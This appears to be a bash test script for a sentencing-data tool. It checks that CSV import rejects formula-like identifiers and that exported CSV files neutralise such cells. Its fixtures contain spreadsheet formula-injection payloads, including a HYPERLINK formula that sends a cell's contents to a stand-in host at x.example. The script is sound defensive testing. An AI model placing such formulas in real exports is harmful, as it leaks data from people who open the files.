#!/usr/bin/env bash
# Cells a spreadsheet would compute. Import refuses identifiers beginning
# with =, +, - or @ and court codes that are not six GB/T 2260 digits, naming
# the line and column. Values stored before these checks (written here
# straight into the tables) reach every output neutralised: opened as text,
# no cell of any CSV file the run, the export or the deviation report writes
# begins with =, +, -, @, tab or CR unless it is a plain number, and the
# stored values show with a leading apostrophe.
set -euo pipefail
S=$SENTENCER
cd "$TMPDIR"

$S migrate 2>/dev/null
cat >bad.csv <<'CSV'
case_no,defendant_no,act_no,court_code,offense,offense_date,conviction_date,defendant_kind,age_at_offense,payment_cards_supplied
"=HYPERLINK(""http://x.example/?""&B2,""open"")",1,1,110105,help_network_crime,2021-03-01,2021-09-01,person,30,25
(2021)京0105刑初1号,@SUM(A1),1,110105,help_network_crime,2021-03-01,2021-09-01,person,30,25
(2021)京0105刑初2号,1,1,=1+1,help_network_crime,2021-03-01,2021-09-01,person,30,25
(2021)京0105刑初3号,1,1,110105,help_network_crime,2021-03-01,2021-09-01,person,30,25
CSV
rc=0
$S import bad.csv 2>import.log || rc=$?
[ "$rc" -eq 1 ] || { echo "import: exit $rc, want 1"; cat import.log; exit 1; }
grep -q 'bad.csv:2: case_no: begins with =, +, - or @, which a spreadsheet takes for a formula' import.log
grep -q 'bad.csv:3: defendant_no: begins with =, +, - or @' import.log
grep -q "bad.csv:4: court_code: not a court code: six digits of the court's administrative division" import.log
grep -q '4 rows read, 1 stored (1 new, 0 changed, 0 unchanged), 3 rejected' import.log ||
    { cat import.log; exit 1; }

# Rows of an older release, stored before the checks: identifiers and a
# court code that a spreadsheet would compute, with an actual judgment so
# that the deviation report lists them.
"$PROJECT/scripts/gen-cases" 40 5 --out gen.csv
$S import gen.csv 2>/dev/null
psql -XAtq -v ON_ERROR_STOP=1 <<'SQL'
WITH c AS (SELECT id FROM sentencer.charge ORDER BY id LIMIT 3)
UPDATE sentencer.act a SET court_code = '=1+1', actual_kind = 'fixed_term', actual_months = 7,
    actual_suspended = false
FROM c WHERE a.charge_id = c.id;
UPDATE sentencer.charge SET case_no = '=HYPERLINK("http://x.example/?"&B2,"open")'
WHERE id = (SELECT min(id) FROM sentencer.charge);
UPDATE sentencer.act SET case_no = '=HYPERLINK("http://x.example/?"&B2,"open")'
WHERE charge_id = (SELECT min(id) FROM sentencer.charge);
UPDATE sentencer.charge SET defendant_no = '-2+3'
WHERE id = (SELECT min(id) + 1 FROM sentencer.charge);
UPDATE sentencer.act SET defendant_no = '-2+3'
WHERE charge_id = (SELECT min(id) + 1 FROM sentencer.charge);
SQL
$S run --rules "$PROJECT/lua-rules" --tests "$PROJECT/tests/rules" --out out --min-cell 1 \
    2>run.log || [ $? -eq 1 ] || { cat run.log; exit 1; }
$S export --out export.csv
$S report deviation --out dev --min-cell 1 >dev.log 2>&1 || { cat dev.log; exit 1; }

python3 - out/*/ export.csv dev <<'PY'
import csv, glob, os, re, sys
paths = []
for p in sys.argv[1:]:
    paths += sorted(glob.glob(os.path.join(p, "*.csv"))) if os.path.isdir(p) else [p]
number = re.compile(r"-?[0-9]+(\.[0-9]+)?")
seen = set()
for path in paths:
    with open(path, newline="", encoding="utf-8-sig") as f:
        for n, row in enumerate(csv.reader(f), 1):
            for cell in row:
                if cell and cell[0] in "=+-@\t\r":
                    assert number.fullmatch(cell), f"{path}:{n}: live cell {cell!r}"
                if cell.startswith("'"):
                    seen.add((os.path.basename(path), cell))
want = {
    ("recommendations.csv", "'=HYPERLINK(\"http://x.example/?\"&B2,\"open\")"),
    ("recommendations.csv", "'-2+3"),
    ("export.csv", "'=HYPERLINK(\"http://x.example/?\"&B2,\"open\")"),
    ("summary_court.csv", "'=1+1"),
    ("deviation.csv", "'=1+1"),
    ("deviation_summary.csv", "'=1+1"),
}
missing = want - seen
assert not missing, f"not written neutralised: {sorted(missing)}; seen {sorted(seen)}"
print(f"{len(paths)} files, no live cell; neutralised: {len(seen)} distinct cells")
PY
# The raw bytes: the neutralised cell is quoted, apostrophe first.
grep -q "^\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"open\"\")\"," export.csv
